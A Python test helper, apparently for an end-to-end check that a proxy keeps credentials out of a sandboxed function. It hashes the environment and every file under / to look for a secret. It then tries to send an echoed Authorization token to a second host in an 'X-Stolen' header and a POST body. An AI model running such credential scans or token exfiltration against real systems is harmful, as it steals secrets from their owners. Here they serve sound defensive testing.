"""A UDF for the credentials e2e test: it never holds the secret, and cannot send it on.

    python credentials.py CONFIG_JSON

CONFIG_JSON: ``{"api", "other", "placeholder", "salt", "digest", "length",
"absent"}``. The secret itself is never given: only ``sha256(salt + secret)``
and its length, so the UDF can look for it in its environment and files
(every run of URL-safe characters of that length, hashed) without knowing it.

Prints one JSON line per step: ``scan`` (what was searched, what matched),
then each request's ``status``, ``error`` (the proxy's 403 reason) and, for
the API's ``/echo-headers``, the SHA-256 of the ``Authorization`` header the
server received (never the header itself).
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import sys

import requests

SKIP = ("/proc", "/sys", "/dev", "/usr")
MAX_FILE = 1 << 20


def scan(salt: str, digest: str, length: int, absent: list[str]) -> dict[str, object]:
    token = re.compile(rb"[A-Za-z0-9_-]{%d,%d}" % (length, 4 * length))

    def holds(data: bytes) -> bool:
        for run in token.findall(data):
            for i in range(len(run) - length + 1):
                if hashlib.sha256(salt.encode() + run[i : i + length]).hexdigest() == digest:
                    return True
        return False

    skip = {*SKIP, sys.prefix, sys.base_prefix, os.path.realpath(sys.prefix)}
    found: list[str] = []
    files = 0
    env = "\n".join(f"{k}={v}" for k, v in os.environ.items()).encode()
    if holds(env):
        found.append("environment")
    if holds(" ".join(sys.argv).encode()):
        found.append("argv")
    for root, dirs, names in os.walk("/"):
        dirs[:] = [d for d in dirs if os.path.join(root, d) not in skip]
        for name in names:
            path = os.path.join(root, name)
            try:
                if os.path.islink(path) or os.path.getsize(path) > MAX_FILE:
                    continue
                with open(path, "rb") as fh:
                    data = fh.read()
            except OSError:
                continue
            files += 1
            if holds(data):
                found.append(path)
    return {
        "id": "scan",
        "files": files,
        "found": found,
        "absent": {p: not os.path.exists(p) for p in absent},
    }


def main() -> int:
    cfg = json.loads(sys.argv[1])
    print(json.dumps(scan(cfg["salt"], cfg["digest"], cfg["length"], cfg["absent"])), flush=True)
    api, other, placeholder = cfg["api"], cfg["other"], cfg["placeholder"]
    leaked = ""
    with requests.Session() as session:

        def step(ident: str, method: str, url: str, **kwargs: object) -> None:
            nonlocal leaked
            out: dict[str, object] = {"id": ident}
            try:
                resp = session.request(method, url, timeout=10, **kwargs)  # type: ignore[arg-type]
                out["status"] = resp.status_code
                body = resp.json()
                out["error"] = body.get("error")
                for name, value in body.get("headers", []):
                    if name.lower() == "authorization":
                        out["auth_sha256"] = hashlib.sha256(value.encode()).hexdigest()
                        leaked = value.split(" ", 1)[-1]
            except (requests.exceptions.RequestException, ValueError) as exc:
                out["exception"] = f"{type(exc).__name__}: {exc}"
            print(json.dumps(out), flush=True)

        step("api-bare", "GET", f"{api}/echo-headers")
        step(
            "api-placeholder",
            "GET",
            f"{api}/echo-headers",
            headers={"Authorization": f"Bearer {placeholder}"},
        )
        step("api-own", "GET", f"{api}/echo-headers", headers={"Authorization": "Bearer mine"})
        step("other-ok", "GET", f"{other}/data")
        step(
            "other-placeholder",
            "GET",
            f"{other}/data",
            headers={"Authorization": f"Bearer {placeholder}"},
        )
        step("other-query", "GET", f"{other}/data", params={"key": placeholder})
        # The API echoed the credential back: replaying it elsewhere is refused too.
        step("other-value-header", "GET", f"{other}/data", headers={"X-Stolen": leaked})
        step("other-value-body", "POST", f"{other}/upload", data=f"token={leaked}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
